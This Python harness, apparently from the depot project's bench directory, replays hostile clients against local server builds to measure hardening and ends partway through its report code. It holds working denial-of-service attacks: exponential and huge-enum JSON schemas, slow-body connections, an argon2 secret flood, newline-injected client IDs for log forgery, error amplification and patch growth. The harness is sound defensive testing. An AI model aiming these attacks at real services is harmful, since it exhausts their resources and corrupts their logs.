#!/usr/bin/env python3
"""Hostile clients against two depot builds: the findings of the second hardening round
(issue 15, docs/contract.md §10), each replayed against a fresh server while a victim in
another project makes normal requests. Python 3 standard library only. See
bench/README.md, "Hostile clients: before and after hardening"; the entry point is
bench/attack.sh.

For each attack and each build: a fresh server (empty data dir, port 0, 127.0.0.1 only),
bootstrapped with an admin client from the environment and a victim client of its own
(so the victim is its own owner for fair shares); setup the attack needs (outside the
measured window); then the victim alone for --baseline seconds, then the victim and the
attack together for the attack's window; then the server is stopped. Recorded: the
victim's success rate (2xx / all; a request not answered within --victim-timeout counts
as a failure), its p50/p99 latency (of all its requests, failures at the time they took),
the server's peak RSS (VmHWM) and RSS at the end of the window, the server's CPU seconds
in the window, and what the attack itself got.

The victim is a process of its own (`attack.py victim ...`), so its timings don't wait
for the attackers' event loop. Every wait is bounded; a server whose RSS passes
--rss-cap-mib is killed (and that is reported).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import json
import os
import platform
import shutil
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

ADMIN_ID = "bench-admin"
ADMIN_SECRET = "bench-admin-secret-that-is-long-enough"
HOST = "127.0.0.1"
BODY_LIMIT = 1 << 20  # both builds' default --body-limit

# ------------------------------------------------------------------ HTTP client ------


class Closed(Exception):
    pass


class Conn:
    """One keep-alive HTTP/1.1 connection to 127.0.0.1:port; reconnects when needed.
    After a timeout or an error the connection is dropped (the next request opens a
    new one), as a client library's pool would."""

    def __init__(self, port: int):
        self.port = port
        self.reader: asyncio.StreamReader | None = None
        self.writer: asyncio.StreamWriter | None = None

    def close(self) -> None:
        if self.writer is not None:
            try:
                self.writer.transport.abort()
            except Exception:
                pass
        self.reader = self.writer = None

    async def _exchange(self, head: bytes, body: bytes, keep_body: bool):
        if self.writer is None:
            self.reader, self.writer = await asyncio.open_connection(HOST, self.port, limit=1 << 20)
        w, r = self.writer, self.reader
        w.write(head + body)
        await w.drain()
        try:
            status_line = await r.readline()
        except (ConnectionError, asyncio.IncompleteReadError) as e:
            raise Closed(str(e))
        if not status_line:
            raise Closed("connection closed before an answer")
        status = int(status_line.split()[1])
        headers: dict[str, str] = {}
        while True:
            line = await r.readline()
            if line in (b"\r\n", b"\n", b""):
                break
            k, _, v = line.decode("latin-1").partition(":")
            headers[k.strip().lower()] = v.strip()
        size = 0
        chunks: list[bytes] = []
        if headers.get("transfer-encoding", "").lower() == "chunked":
            while True:
                n = int((await r.readline()).split(b";")[0].strip(), 16)
                if n == 0:
                    while (await r.readline()) not in (b"\r\n", b"\n", b""):
                        pass
                    break
                data = await r.readexactly(n)
                await r.readexactly(2)
                size += n
                if keep_body:
                    chunks.append(data)
        elif "content-length" in headers:
            left = int(headers["content-length"])
            while left:
                data = await r.readexactly(min(left, 1 << 20))
                left -= len(data)
                size += len(data)
                if keep_body:
                    chunks.append(data)
        else:
            while True:
                data = await r.read(1 << 20)
                if not data:
                    break
                size += len(data)
                if keep_body:
                    chunks.append(data)
            self.close()
        if headers.get("connection", "").lower() == "close":
            self.close()
        return status, headers, b"".join(chunks), size

    async def request(self, method: str, path: str, body: bytes | str | dict | None = None,
                      token: str | None = None, ctype: str | None = None,
                      headers: dict[str, str] | None = None, timeout: float = 10.0,
                      keep_body: bool = True):
        """(status, headers, body, body size); status 0 = timed out, -1 = failed."""
        if isinstance(body, dict) or isinstance(body, list):
            body = json.dumps(body, separators=(",", ":")).encode()
            ctype = ctype or "application/json"
        elif isinstance(body, str):
            body = body.encode()
        body = body or b""
        lines = [f"{method} {path} HTTP/1.1", f"Host: {HOST}:{self.port}"]
        if token:
            lines.append(f"Authorization: {token if ' ' in token else 'Bearer ' + token}")
        if ctype:
            lines.append(f"Content-Type: {ctype}")
        if body or method in ("POST", "PUT", "PATCH"):
            lines.append(f"Content-Length: {len(body)}")
        for k, v in (headers or {}).items():
            lines.append(f"{k}: {v}")
        head = ("\r\n".join(lines) + "\r\n\r\n").encode()
        for attempt in (0, 1):
            fresh = self.writer is None
            try:
                return await asyncio.wait_for(self._exchange(head, body, keep_body), max(timeout, 0.001))
            except asyncio.TimeoutError:
                self.close()
                return 0, {}, b"", 0
            except (Closed, ConnectionError, asyncio.IncompleteReadError, OSError, ValueError, IndexError) as e:
                self.close()
                # A kept-alive connection the server closed meanwhile: once more on a new one.
                if attempt == 0 and not fresh and isinstance(e, (Closed, ConnectionError, asyncio.IncompleteReadError)):
                    continue
                return -1, {"error": repr(e)[:200]}, b"", 0
        return -1, {}, b"", 0


def basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


async def token_for(port: int, client_id: str, secret: str) -> str:
    c = Conn(port)
    st, _, body, _ = await c.request("POST", "/oauth/token", "grant_type=client_credentials",
                                     token=basic(client_id, secret),
                                     ctype="application/x-www-form-urlencoded", timeout=30)
    c.close()
    if st != 200:
        raise RuntimeError(f"token for {client_id}: {st} {body[:300]!r}")
    return json.loads(body)["access_token"]


async def must(conn: Conn, want: tuple[int, ...], *args, **kw):
    st, h, body, size = await conn.request(*args, **kw)
    if st not in want:
        raise RuntimeError(f"{args[0]} {args[1]}: {st} {body[:300]!r} {h.get('error', '')}")
    return json.loads(body) if body else None


# ------------------------------------------------------------------ server ----------


def proc_status(pid: int) -> dict[str, int]:
    """VmHWM and VmRSS of pid, in KiB (empty if it's gone)."""
    out = {}
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(("VmHWM:", "VmRSS:")):
                    k, v = line.split(":")
                    out[k] = int(v.split()[0])
    except OSError:
        pass
    return out


def cpu_seconds(pid: int) -> float | None:
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except OSError:
        return None


class Server:
    """`BIN serve` on 127.0.0.1:0 with the bench admin's credentials; stderr (the log)
    to a file."""

    def __init__(self, binary: str, data_dir: Path, log: Path, extra: list[str] | None = None):
        self.binary, self.data_dir, self.log, self.extra = binary, data_dir, log, extra or []
        self.proc: subprocess.Popen | None = None
        self.port = 0
        self.killed_at_cap: int | None = None
        self.killed_at: float | None = None
        self.max_rss_kib = 0

    def start(self, wait: float = 30.0) -> bool:
        """True once it prints its address; False if it exits first (or within `wait`)."""
        env = dict(os.environ, DEPOT_ADMIN_CLIENT_ID=ADMIN_ID, DEPOT_ADMIN_CLIENT_SECRET=ADMIN_SECRET)
        env.pop("DEPOT_LOG", None)
        self.log_file = open(self.log, "ab")
        self.proc = subprocess.Popen(
            [self.binary, "serve", "--addr", f"{HOST}:0", "--data-dir", str(self.data_dir), *self.extra],
            stdout=subprocess.PIPE, stderr=self.log_file, env=env)
        found = threading.Event()

        def drain(stream):
            for raw in stream:
                line = raw.decode(errors="replace").strip()
                if line.startswith("depot listening on "):
                    self.port = int(line.rsplit(":", 1)[1])
                    found.set()

        threading.Thread(target=drain, args=(self.proc.stdout,), daemon=True).start()
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline:
            if found.wait(0.05):
                return True
            if self.proc.poll() is not None:
                return False
        return False

    @property
    def pid(self) -> int:
        return self.proc.pid

    def alive(self) -> bool:
        return self.proc is not None and self.proc.poll() is None

    def mem_mib(self) -> tuple[float, float]:
        s = proc_status(self.pid)
        hwm = max(s.get("VmHWM", 0), self.max_rss_kib)
        return hwm / 1024, s.get("VmRSS", 0) / 1024

    def stop(self) -> None:
        if self.proc is None:
            return
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(5)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.log_file.close()

    async def watch(self, cap_kib: int) -> None:
        """Samples RSS; kills the server past the cap (the machine is shared)."""
        while self.alive():
            rss = proc_status(self.pid).get("VmRSS", 0)
            self.max_rss_kib = max(self.max_rss_kib, proc_status(self.pid).get("VmHWM", 0), rss)
            if rss > cap_kib:
                self.killed_at_cap = rss // 1024
                self.killed_at = time.monotonic()
                self.proc.kill()
                return
            await asyncio.sleep(0.1)


# ------------------------------------------------------------------ the victim ------


def victim_main(argv: list[str]) -> None:
    """A normal client in project `victim`: alternately GET a known item and create an
    item, 20 ms apart, until a CLOCK_MONOTONIC deadline; writes one record a request."""
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--token", required=True)
    p.add_argument("--item", required=True)
    p.add_argument("--until", type=float, required=True)
    p.add_argument("--timeout", type=float, default=2.0)
    p.add_argument("--pause", type=float, default=0.02)
    p.add_argument("--out", required=True)
    a = p.parse_args(argv)

    async def run():
        conn = Conn(a.port)
        records = []
        n = 0
        base = "/v1/projects/victim/collections/c/items"
        while time.monotonic() < a.until:
            n += 1
            t = time.monotonic()
            if n % 2:
                st, *_ = await conn.request("GET", f"{base}/{a.item}", token=a.token, timeout=a.timeout)
            else:
                st, *_ = await conn.request("POST", base, {"n": n, "text": "a normal item"},
                                            token=a.token, timeout=a.timeout)
            records.append([t, time.monotonic() - t, st, "GET" if n % 2 else "POST"])
            await asyncio.sleep(a.pause)
        conn.close()
        Path(a.out).write_text(json.dumps(records))

    asyncio.run(run())


def pct(values: list[float], q: float) -> float | None:
    if not values:
        return None
    v = sorted(values)
    k = max(1, -(-len(v) * q // 100))  # nearest rank
    return v[int(min(k, len(v))) - 1]


def victim_stats(records: list, start: float, end: float) -> dict:
    sel = [r for r in records if start <= r[0] < end]
    ok = [r for r in sel if 200 <= r[2] < 300]
    lat = [r[1] * 1000 for r in sel]
    statuses: dict[str, int] = {}
    for r in sel:
        key = {0: "timeout", -1: "error"}.get(r[2], str(r[2]))
        statuses[key] = statuses.get(key, 0) + 1
    return {
        "requests": len(sel),
        "ok": len(ok),
        "success": (len(ok) / len(sel)) if sel else None,
        "p50_ms": pct(lat, 50),
        "p99_ms": pct(lat, 99),
        "max_ms": max(lat) if lat else None,
        "statuses": statuses,
    }


# ------------------------------------------------------------------ attacks ---------


@dataclass
class Ctx:
    server: Server
    port: int
    admin: str  # the attacker's (and setup's) bearer token: the admin client's
    deadline: float = 0.0
    facts: dict = field(default_factory=dict)

    def left(self) -> float:
        return max(0.0, self.deadline - time.monotonic())


async def loops(n: int, ctx: Ctx, one) -> None:
    """n concurrent loops of `one(conn, loop, i)` until the deadline; cancelled there."""

    async def loop(k):
        conn = Conn(ctx.port)
        i = 0
        try:
            while ctx.left() > 0:
                i += 1
                await one(conn, k, i)
        finally:
            conn.close()

    tasks = [asyncio.create_task(loop(k)) for k in range(n)]
    await asyncio.wait(tasks, timeout=ctx.left() + 1)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


class Tally:
    """Statuses and durations of the attack's own requests."""

    def __init__(self):
        self.statuses: dict[str, int] = {}
        self.durations: list[float] = []
        self.max_answer = 0
        self.first: dict | None = None

    def add(self, st: int, took: float, size: int = 0, body: bytes = b""):
        key = {0: "cut at the window's end/timeout", -1: "error"}.get(st, str(st))
        self.statuses[key] = self.statuses.get(key, 0) + 1
        self.durations.append(took)
        self.max_answer = max(self.max_answer, size)
        if self.first is None and st > 0:
            self.first = {"status": st, "bytes": size, "took_s": round(took, 3),
                          "body": body[:300].decode(errors="replace")}

    def facts(self) -> dict:
        d = sorted(self.durations)
        return {"requests": len(d), "statuses": self.statuses,
                "median_s": round(d[len(d) // 2], 3) if d else None,
                "max_s": round(d[-1], 3) if d else None,
                "largest_answer_bytes": self.max_answer, "first_answer": self.first}


async def collection(ctx: Ctx, project: str, schema=None) -> tuple[int, bytes]:
    c = Conn(ctx.port)
    await c.request("POST", "/v1/projects", {"name": project}, token=ctx.admin, timeout=30)
    body = {"name": "c"} if schema is None else {"name": "c", "schema": schema}
    st, _, answer, _ = await c.request("POST", f"/v1/projects/{project}/collections", body,
                                       token=ctx.admin, timeout=60)
    c.close()
    return st, answer


# 1 -------------------------------------------------------------------------------
def chain_schema(levels: int) -> dict:
    defs = {f"l{i}": {"anyOf": [{"$ref": f"#/$defs/l{i + 1}"}, {"$ref": f"#/$defs/l{i + 1}"}]}
            for i in range(levels)}
    defs[f"l{levels}"] = {"type": "string"}
    return {"$defs": defs, "$ref": "#/$defs/l0"}


async def attack_schema_chain(ctx: Ctx, setup: dict) -> dict:
    f = {"schema_set": setup["schema_set"]}
    if setup["schema_set"] != 201:
        f["note"] = "schema refused when set: nothing to send"
        return f
    tally = Tally()

    async def one(conn, k, i):
        t = time.monotonic()
        st, _, body, size = await conn.request("POST", "/v1/projects/evil/collections/c/items",
                                               {"a": 1}, token=ctx.admin, timeout=ctx.left())
        tally.add(st, time.monotonic() - t, size, body)

    await loops(2, ctx, one)
    f.update(tally.facts())
    return f


async def setup_schema_chain(ctx: Ctx, args) -> dict:
    st, body = await collection(ctx, "evil", chain_schema(args.chain_levels))
    return {"schema_set": st, "schema_answer": body[:300].decode(errors="replace"),
            "levels": args.chain_levels}


# 2 -------------------------------------------------------------------------------
ENUM_N = 40_000


async def setup_enum(ctx: Ctx, args) -> dict:
    values = [{"k": n, "v": "x"} for n in range(ENUM_N)]
    schema = {"type": "object",
              "properties": {"xs": {"type": "array", "items": {"enum": values}}}}
    size = len(json.dumps(schema, separators=(",", ":")))
    st, body = await collection(ctx, "evil", schema)
    return {"schema_set": st, "schema_bytes": size,
            "schema_answer": body[:300].decode(errors="replace")}


async def attack_enum(ctx: Ctx, setup: dict) -> dict:
    f = {"schema_set": setup["schema_set"], "schema_bytes": setup["schema_bytes"]}
    if setup["schema_set"] != 201:
        f["note"] = "schema refused when set: nothing to send"
        return f
    # ~220 KB: an array of objects none of which is in the enum, each compared with all.
    element = {"k": -1, "v": "x"}
    per = len(json.dumps(element, separators=(",", ":"))) + 1
    item = json.dumps({"xs": [element] * (220_000 // per)}, separators=(",", ":")).encode()
    f["item_bytes"] = len(item)
    tally = Tally()

    async def one(conn, k, i):
        t = time.monotonic()
        st, _, body, size = await conn.request("POST", "/v1/projects/evil/collections/c/items", item,
                                               token=ctx.admin, ctype="application/json",
                                               timeout=ctx.left())
        tally.add(st, time.monotonic() - t, size, body)

    await loops(2, ctx, one)
    f.update(tally.facts())
    return f


# 3 -------------------------------------------------------------------------------
async def attack_slow_bodies(ctx: Ctx, setup: dict) -> dict:
    head = (f"POST /oauth/token HTTP/1.1\r\nHost: {HOST}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n").encode()
    answers: dict[str, int] = {}
    sent = [0]
    refused = [0]

    async def one_conn():
        try:
            r, w = await asyncio.open_connection(HOST, ctx.port)
        except OSError:
            refused[0] += 1
            return
        reply = asyncio.create_task(r.readline())
        try:
            w.write(head)
            await w.drain()
            while ctx.left() > 0:
                done, _ = await asyncio.wait([reply], timeout=min(1.0, ctx.left()))
                if done:
                    break
                if ctx.left() <= 0:
                    break
                w.write(b"a")
                await w.drain()
                sent[0] += 1
        except (ConnectionError, OSError):
            pass
        if reply.done() and not reply.cancelled() and reply.exception() is None:
            line = reply.result()
            key = line.split()[1].decode() if line.count(b" ") >= 1 else "closed"
        else:
            key = "still open at the window's end"
            reply.cancel()
        answers[key] = answers.get(key, 0) + 1
        w.transport.abort()

    await asyncio.gather(*(one_conn() for _ in range(64)))
    return {"connections": 64, "answers": answers, "body_bytes_sent": sent[0],
            "connect_refused": refused[0]}


# 4 -------------------------------------------------------------------------------
async def attack_argon2(ctx: Ctx, setup: dict) -> dict:
    tally = Tally()

    async def one(conn, k, i):
        form = f"grant_type=client_credentials&client_id=x{k}-{i}&client_secret=dps_wrong"
        t = time.monotonic()
        st, _, body, size = await conn.request("POST", "/oauth/token", form,
                                               ctype="application/x-www-form-urlencoded",
                                               timeout=min(10.0, ctx.left()))
        tally.add(st, time.monotonic() - t, size, body)

    await loops(50, ctx, one)
    f = tally.facts()
    f.pop("first_answer")
    return f


# 5 -------------------------------------------------------------------------------
def make_log_flood(id_bytes: int, max_requests: int):
    async def attack(ctx: Ctx, setup: dict) -> dict:
        # The e2e test's id: "z\n" repeated, form-encoded (a raw newline in the id).
        form = ("grant_type=client_credentials&client_secret=dps_x&client_id="
                + "z%0A" * (id_bytes // 2)).encode()
        tally = Tally()
        count = [0]
        before = ctx.server.log.stat().st_size
        t0 = time.monotonic()

        async def one(conn, k, i):
            if count[0] >= max_requests:
                await asyncio.sleep(min(0.2, ctx.left()))
                return
            count[0] += 1
            t = time.monotonic()
            st, _, body, size = await conn.request("POST", "/oauth/token", form,
                                                   ctype="application/x-www-form-urlencoded",
                                                   timeout=min(10.0, ctx.left()))
            tally.add(st, time.monotonic() - t, size, body)

        await loops(8, ctx, one)
        took = time.monotonic() - t0
        grown = ctx.server.log.stat().st_size - before
        f = tally.facts()
        f.pop("first_answer")
        f.update({"client_id_bytes": id_bytes, "form_bytes": len(form),
                  "log_bytes": grown, "log_bytes_per_s": round(grown / took),
                  "log_bytes_per_request": round(grown / max(1, tally_count(tally))),
                  "raw_newline_in_log": raw_newline(ctx.server.log)})
        return f

    return attack


def tally_count(t: Tally) -> int:
    return len(t.durations)


def raw_newline(log: Path) -> bool:
    """Whether a request's raw newline reached the log ("z\\nz")."""
    tail = b""
    with open(log, "rb") as f:
        while True:
            chunk = f.read(1 << 24)
            if not chunk:
                return False
            if b"z\nz" in tail + chunk:
                return True
            tail = chunk[-4:]


# 7 -------------------------------------------------------------------------------
async def setup_errors(ctx: Ctx, args) -> dict:
    schema = {"type": "object",
              "properties": {"xs": {"type": "array", "items": {"type": "string"}}}}
    st, body = await collection(ctx, "evil", schema)
    return {"schema_set": st}


async def attack_errors(ctx: Ctx, setup: dict) -> dict:
    n = (BODY_LIMIT - 64) // 2
    item = ('{"xs":[' + ",".join(["1"] * n) + "]}").encode()
    tally = Tally()

    async def one(conn, k, i):
        t = time.monotonic()
        st, _, body, size = await conn.request("POST", "/v1/projects/evil/collections/c/items", item,
                                               token=ctx.admin, ctype="application/json",
                                               timeout=ctx.left(), keep_body=(i == 1))
        tally.add(st, time.monotonic() - t, size, body)

    await loops(2, ctx, one)
    f = {"item_bytes": len(item), "failing_values": n}
    f.update(tally.facts())
    if f["first_answer"]:
        f["first_answer"]["body"] = f["first_answer"]["body"][:160]
    return f


# 8 -------------------------------------------------------------------------------
async def attack_patch_growth(ctx: Ctx, setup: dict) -> dict:
    c = Conn(ctx.port)
    chunk = 900_000
    st, _, body, _ = await c.request("POST", "/v1/projects/evil/collections/c/items",
                                     {"m0": "x" * chunk}, token=ctx.admin, timeout=30)
    if st != 201:
        return {"create": st, "answer": body[:300].decode(errors="replace")}
    item_id = json.loads(body)["id"]
    path = f"/v1/projects/evil/collections/c/items/{item_id}"
    tally = Tally()
    largest = 0
    n = 0
    # Each merge patch adds another 900 KB member; at most 8 (an item of ~8 MB).
    while ctx.left() > 0 and n < 8:
        n += 1
        t = time.monotonic()
        st, _, body, size = await c.request("PATCH", path, {f"m{n}": "x" * chunk}, token=ctx.admin,
                                            ctype="application/merge-patch+json",
                                            timeout=min(30.0, ctx.left()))
        tally.add(st, time.monotonic() - t, size, body)
        gst, _, _, gsize = await c.request("GET", path, token=ctx.admin, timeout=min(30.0, ctx.left()),
                                           keep_body=False)
        if gst == 200:
            largest = max(largest, gsize)
        if st != 200:
            break
    c.close()
    f = tally.facts()
    f.update({"largest_item_bytes": largest, "body_limit": BODY_LIMIT,
              "grew_past_limit": largest > BODY_LIMIT + 1024})
    return f


async def setup_patch(ctx: Ctx, args) -> dict:
    st, _ = await collection(ctx, "evil")
    return {"collection": st}


# 9 -------------------------------------------------------------------------------
def make_setup_large_delete(item_bytes: int):
    return lambda ctx, args: setup_large_delete(ctx, args, item_bytes)


async def setup_large_delete(ctx: Ctx, args, item_bytes: int) -> dict:
    st, _ = await collection(ctx, "p")
    n = args.delete_items
    made = [0]
    nxt = [0]
    filler = "x" * (item_bytes - 30)
    t0 = time.monotonic()

    async def seeder():
        conn = Conn(ctx.port)
        while nxt[0] < n:
            i = nxt[0]
            nxt[0] += 1
            st, *_ = await conn.request("POST", "/v1/projects/p/collections/c/items",
                                        {"n": i, "text": filler}, token=ctx.admin, timeout=30)
            if st == 201:
                made[0] += 1
        conn.close()

    await asyncio.gather(*(seeder() for _ in range(16)))
    return {"seeded": made[0], "item_bytes": item_bytes, "seed_s": round(time.monotonic() - t0, 1)}


async def attack_large_delete(ctx: Ctx, setup: dict) -> dict:
    c = Conn(ctx.port)
    await asyncio.sleep(0)
    t = time.monotonic()
    st, _, body, _ = await c.request("DELETE", "/v1/projects/p/collections/c", token=ctx.admin,
                                     timeout=ctx.left())
    took = time.monotonic() - t
    gst, *_ = await c.request("GET", "/v1/projects/p/collections/c", token=ctx.admin,
                              timeout=max(0.5, ctx.left()))
    c.close()
    # The rest of the window: the victim goes on (a background purge, if any, too).
    await asyncio.sleep(ctx.left())
    return {"items": setup["seeded"], "delete_status": st or "cut at the window's end",
            "delete_took_s": round(took, 2), "get_after": gst}


# 11 ------------------------------------------------------------------------------
async def attack_two_servers(ctx: Ctx, setup: dict) -> dict:
    log = ctx.server.log.with_name(ctx.server.log.stem + "-second.log")
    second = Server(ctx.server.binary, ctx.server.data_dir, log)
    started = await asyncio.to_thread(second.start, 5.0)
    f = {"second_started": started}
    if started:
        # Both now serve one SQLite file: a write through the second.
        tok = await token_for(second.port, ADMIN_ID, ADMIN_SECRET)
        c = Conn(second.port)
        st, *_ = await c.request("POST", "/v1/projects", {"name": "from-second"}, token=tok)
        c.close()
        f["write_through_second"] = st
    else:
        f["second_exit"] = second.proc.poll()
    second.stop()
    text = log.read_text(errors="replace").strip().splitlines()
    f["second_says"] = [line[:200] for line in text if "error" in line.lower()][:2] or text[-1:]
    await asyncio.sleep(ctx.left())
    return f


ATTACKS = {
    # name: (finding, title, setup or None, attack)
    "schema-chain": ("1", "exponential schema: 21-level anyOf/$ref chain, POST {\"a\":1}",
                     setup_schema_chain, attack_schema_chain),
    "huge-enum": ("2", "enum of 40,000 objects, ~220 KB items, two at once", setup_enum, attack_enum),
    "slow-bodies": ("3", "64 token requests declaring 100 KB, sending 1 byte/s", None,
                    attack_slow_bodies),
    "argon2": ("4", "50 loops of wrong secrets, a new client id each", None, attack_argon2),
    "log-flood": ("5", "client_id of 500 KB (\"z\\n\"…), 8 loops", None,
                  make_log_flood(500_000, 400)),
    "log-flood-30k": ("5", "client_id of 30 KB (\"z\\n\"…, the e2e test's), 8 loops", None,
                      make_log_flood(30_000, 4000)),
    "error-amplification": ("7", "1 MB item with 524k validation errors, two at once",
                            setup_errors, attack_errors),
    "patch-growth": ("8", "merge patches adding 900 KB each to one item", setup_patch,
                     attack_patch_growth),
    "large-delete": ("9", "DELETE a collection of 50,000 items of ~100 B", make_setup_large_delete(100),
                     attack_large_delete),
    "large-delete-1k": ("9", "DELETE a collection of 50,000 items of ~1 KiB", make_setup_large_delete(1000),
                        attack_large_delete),
    "two-servers": ("11", "a second server on the same data dir", None, attack_two_servers),
}


# ------------------------------------------------------------------ one case --------


async def bootstrap(port: int) -> tuple[str, str, str]:
    """The admin's token, a victim client's token, and one item of the victim's."""
    admin = await token_for(port, ADMIN_ID, ADMIN_SECRET)
    c = Conn(port)
    await must(c, (201,), "POST", "/v1/projects", {"name": "victim"}, token=admin)
    await must(c, (201,), "POST", "/v1/projects/victim/collections", {"name": "c"}, token=admin)
    item = await must(c, (201,), "POST", "/v1/projects/victim/collections/c/items",
                      {"n": 0, "text": "a normal item"}, token=admin)
    client = await must(c, (201,), "POST", "/v1/clients",
                        {"name": "victim", "scopes": ["project:victim:read", "project:victim:write"]},
                        token=admin)
    c.close()
    victim = await token_for(port, client["client_id"], client["client_secret"])
    return admin, victim, item["id"]


async def run_case(label: str, binary: str, name: str, args, work: Path) -> dict:
    finding, title, setup_fn, attack_fn = ATTACKS[name]
    case_dir = work / label / name
    shutil.rmtree(case_dir, ignore_errors=True)
    case_dir.mkdir(parents=True)
    server = Server(binary, case_dir / "data", case_dir / "server.log")
    out = {"attack": name, "finding": finding, "build": label, "binary": binary}
    if not server.start():
        out["error"] = "the server didn't start: " + server.log.read_text(errors="replace")[-500:]
        return out
    watcher = asyncio.create_task(server.watch(args.rss_cap_mib * 1024))
    victim = None
    try:
        admin, victim_token, item = await bootstrap(server.port)
        ctx = Ctx(server=server, port=server.port, admin=admin)
        setup = {}
        if setup_fn:
            setup = await setup_fn(ctx, args)
        out["setup"] = setup
        await asyncio.sleep(0.5)
        window = args.duration if not name.startswith("large-delete") else max(args.duration, args.delete_window)
        out["window_s"] = window
        out["rss_before_mib"] = round(server.mem_mib()[1], 1)
        t0 = time.monotonic()
        t_attack = t0 + args.baseline
        t_end = t_attack + window
        vout = case_dir / "victim.json"
        victim = subprocess.Popen([sys.executable, __file__, "victim", "--port", str(server.port),
                                   "--token", victim_token, "--item", item, "--until", str(t_end),
                                   "--timeout", str(args.victim_timeout), "--out", str(vout)])
        await asyncio.sleep(max(0.0, t_attack - time.monotonic()))
        cpu0 = cpu_seconds(server.pid)
        ctx.deadline = t_end
        try:
            facts = await asyncio.wait_for(attack_fn(ctx, setup), timeout=window + 15)
        except asyncio.TimeoutError:
            facts = {"note": "the attack overran its window by 15 s and was cancelled"}
        cpu1 = cpu_seconds(server.pid)
        hwm, rss = server.mem_mib()
        alive = server.alive()
        try:
            await asyncio.to_thread(victim.wait, args.victim_timeout + 30)
        except subprocess.TimeoutExpired:
            victim.kill()
        records = json.loads(vout.read_text()) if vout.exists() else []
        out.update({
            "victim_baseline": victim_stats(records, t0, t_attack),
            "victim_attack": victim_stats(records, t_attack, t_end),
            "peak_rss_mib": round(hwm, 1),
            "rss_end_mib": round(rss, 1) if alive else None,
            "server_cpu_s": round(cpu1 - cpu0, 1) if (cpu0 is not None and cpu1 is not None) else None,
            "server_alive_at_end": alive,
            "killed_at_rss_cap_mib": server.killed_at_cap,
            "killed_after_s": round(server.killed_at - t_attack, 1) if server.killed_at else None,
            "attack_facts": facts,
        })
    except Exception as e:  # report the case, go on with the others
        out["error"] = f"{type(e).__name__}: {e}"
    finally:
        if victim is not None and victim.poll() is None:
            victim.kill()
        watcher.cancel()
        server.stop()
        out["log_bytes_total"] = server.log.stat().st_size if server.log.exists() else None
        if not args.keep:
            shutil.rmtree(case_dir / "data", ignore_errors=True)
            # The log of a flood can be large; its size is what was kept.
            if server.log.exists() and server.log.stat().st_size > (1 << 20):
                with open(server.log, "rb") as f:
                    head = f.read(4096)
                server.log.write_bytes(head + b"\n[... cut by attack.py ...]\n")
    return out


# ------------------------------------------------------------------ report ----------


def fmt_ms(v):
    if v is None:
        return "–"
    return f"{v:,.0f}" if v >= 100 else f"{v:.1f}"


def fmt_pct(s):
    if not s or s.get("success") is None:
        return "–"
    return f"{100 * s['success']:.0f} % ({s['ok']}/{s['requests']})"


def outcome(r: dict) -> str:
    if "error" in r:
        return "harness error: " + r["error"][:200]
    f = r.get("attack_facts", {})
    a = r["attack"]
    parts = []
    if r.get("killed_at_rss_cap_mib"):
        parts.append(f"**server killed by the harness at {r['killed_at_rss_cap_mib']:,} MiB RSS, "
                     f"{r.get('killed_after_s')} s into the attack**")
    elif not r.get("server_alive_at_end"):
        parts.append("**server died**")

    def st(d):
        return ", ".join(f"{k}×{v}" for k, v in sorted(d.items()))

    if a in ("schema-chain", "huge-enum"):
        if f.get("schema_set") != 201:
            parts.append(f"schema refused when set: {f.get('schema_set')}")
        else:
            parts.append(f"schema accepted (201); {f.get('requests')} POSTs: {st(f.get('statuses', {}))}"
                         f"; longest {f.get('max_s')} s")
    elif a == "slow-bodies":
        parts.append("answers: " + st(f.get("answers", {})))
    elif a == "argon2":
        rate = f.get("requests", 0) / max(1e-9, r.get("window_s", 1))
        parts.append(f"{f.get('requests')} token requests ({rate:.0f}/s): {st(f.get('statuses', {}))}")
    elif a.startswith("log-flood"):
        parts.append(f"{f.get('requests')} requests: {st(f.get('statuses', {}))}; log "
                     f"{f.get('log_bytes', 0) / 1024:,.0f} KiB ({f.get('log_bytes_per_s', 0) / 1024:,.0f} KiB/s, "
                     f"{f.get('log_bytes_per_request', 0):,} B/request); raw newline in log: "
                     f"{'yes' if f.get('raw_newline_in_log') else 'no'}")
    elif a == "error-amplification":
        first = f.get("first_answer") or {}
        parts.append(f"{f.get('requests')} POSTs: {st(f.get('statuses', {}))}; answer "
                     f"{first.get('bytes', 0):,} B in {first.get('took_s')} s")
    elif a == "patch-growth":
        parts.append(f"PATCHes: {st(f.get('statuses', {}))}; largest item {f.get('largest_item_bytes', 0):,} B"
                     f" ({'grew past' if f.get('grew_past_limit') else 'within'} the 1 MiB limit)")
    elif a.startswith("large-delete"):
        parts.append(f"DELETE of {f.get('items'):,} items: {f.get('delete_status')} in {f.get('delete_took_s')} s; "
                     f"the victim's longest request {fmt_ms((r.get('victim_attack') or {}).get('max_ms'))} ms")
    elif a == "two-servers":
        if f.get("second_started"):
            parts.append(f"**second server started** (a write through it: {f.get('write_through_second')})")
        else:
            says = (f.get("second_says") or [""])[0].strip()
            parts.append(f"second refused to start (exit {f.get('second_exit')}): “{says[-140:].strip()}”")
    if f.get("note"):
        pass
    return "; ".join(parts)


def write_report(results: list[dict], args, out_dir: Path, started: str, finished: str) -> None:
    by = {(r["attack"], r["build"]): r for r in results}
    names = [n for n in ATTACKS if any(k[0] == n for k in by)]
    load = " ".join(Path("/proc/loadavg").read_text().split()[:3])
    lines = [
        "# Hostile clients: before and after hardening",
        "",
        f"- **Date**: {started} – {finished} (UTC); **machine**: {os.cpu_count()} CPUs, "
        f"{platform.release()}, shared with other work (noisy); load average at the end: {load}",
        f"- **Command**: `{args.command}`",
        f"- **before**: `{args.before}`{' (' + args.before_note + ')' if args.before_note else ''}; "
